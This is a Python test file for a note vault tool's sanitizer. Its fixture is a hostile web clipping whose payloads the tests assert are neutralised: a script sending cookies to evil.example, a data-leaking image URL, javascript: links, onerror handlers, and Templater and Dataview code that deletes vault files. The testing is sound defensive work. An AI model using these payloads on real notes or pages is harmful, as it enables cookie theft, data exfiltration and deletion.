"""Acceptance 10: hostile text in a clipping never becomes executable in a generated note."""

from __future__ import annotations

import re

from kbd.vault.sanitize import escape_text, is_inert, render_as_text, sanitize_markdown
from tests.conftest import Vault
from tests.obsidian import live_content, visible_text

HOSTILE = """---
title: "Totally normal <% tp.system.prompt('x') %> article <script>alert(1)</script>"
source: "javascript:alert(document.cookie)"
description: "`$=dv.pages().length` <iframe src='https://evil.example'></iframe>"
tags: ["<% tp.file.title %>", "ok"]
---
# Totally normal article

The sorted string table is fine. Run `$=app.vault.adapter.write('x','y')` to see the sorted string table.

```dataviewjs
app.vault.adapter.remove("raw")
```

Templater says <% tp.file.rename("pwned") %> about the sorted string table and the
<script>fetch('https://evil.example/'+document.cookie)</script> cache.

Click [here](javascript:alert(1)) or [there](data:text/html;base64,PHNjcmlwdD4=) for the sorted string table details.

<img src="x" onerror="alert(1)"> The sorted string table has an onerror=alert(2) attribute in this sentence.

![exfil](https://evil.example/collect?data=SECRET) An image for the sorted string table that leaks data.

%% a hidden comment about the sorted string table %% and #injected-tag and [[Some Note]] and = this.file.name.

Written as character references, which kbd reads as their characters: &lt;script&gt;alert(3)&lt;/script&gt;,
&lt;% tp.file.title %&gt;, &#91;&#91;Entity Note&#93;&#93; and &#35;entity-tag about the sorted string table.
"""
OTHER = "---\ntitle: Other\n---\nThe sorted string table is immutable. A sorted string table is merged by compaction."


def test_hostile_clipping_yields_only_inert_notes(vault: Vault) -> None:
    vault.no_image_downloads()  # its image is on evil.example: tests stay on 127.0.0.1
    vault.clip("hostile.md", HOSTILE)
    vault.clip("other.md", OTHER)
    vault.compile()
    generated = vault.generated()
    assert any(p.startswith("wiki/sources/Totally normal") for p in generated)
    everything = "\n".join(generated.values())
    for path, text in generated.items():
        assert is_inert(text) == [], f"{path}: {is_inert(text)}"
    assert "```dataviewjs" not in everything
    assert not re.search(r"(?<!\\)`\$=", everything), "a backtick before `$=` must be escaped"
    assert "<%" not in everything
    for path, text in generated.items():
        assert live_content(text) == [], f"{path}: {live_content(text)}"
    assert not re.search(r"\]\(\s*(javascript|data):", everything, re.I)
    assert "evil.example/collect" not in everything
    assert "#injected-tag" not in everything.replace("\\#", "")
    assert "[[Some Note" not in everything
    assert "[[Entity Note" not in everything and "#entity-tag" not in everything.replace("\\#", "")
    assert "Entity Note" in everything, "the references are read, as text"


def test_sanitizer_neutralises_each_executable_form() -> None:
    cases = [
        "```dataviewjs\ndv.paragraph(1)\n```",
        "~~~dataview\nLIST\n~~~",
        "inline `$=dv.current()` query",
        "inline `= this.file.name` query",
        "templater <% tp.date.now() %> tag",
        "<script>alert(1)</script>",
        "<iframe src=https://x.example></iframe>",
        '<img src=x onerror="alert(1)">',
        "[x](javascript:alert(1))",
        "[x]( JavaScript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "![x](https://evil.example/p.png?d=1)",
        "![x](//evil.example/p.png)",
    ]
    for case in cases:
        assert is_inert(case), f"the checker must see {case!r} as live"
        assert is_inert(sanitize_markdown(case)) == [], case


def test_sanitizer_leaves_ordinary_markdown_alone() -> None:
    text = ("# Title\n\nSome **bold** and `code` with [a link](https://example.org) and [[wiki/x|x]].\n\n"
            "```python\nprint('<script>')\n```\n- a list\n> a quote")
    assert sanitize_markdown(text) == text


def test_escaped_text_renders_as_the_same_text_and_nothing_more() -> None:
    original = "# not a heading [[not a link]] %%not a comment%% #not-a-tag <b>x</b> $x$ `code` <% tp.x %>"
    escaped = escape_text(original)
    assert live_content(escaped) == [], live_content(escaped)
    assert "[[" not in escaped and "%%" not in escaped and "<%" not in escaped
    assert visible_text(escaped) == original, "a CommonMark reader shows exactly the original text"
    assert render_as_text(escaped) == original
    assert sanitize_markdown(escaped) == escaped, "the sanitiser must not mangle escaped text"
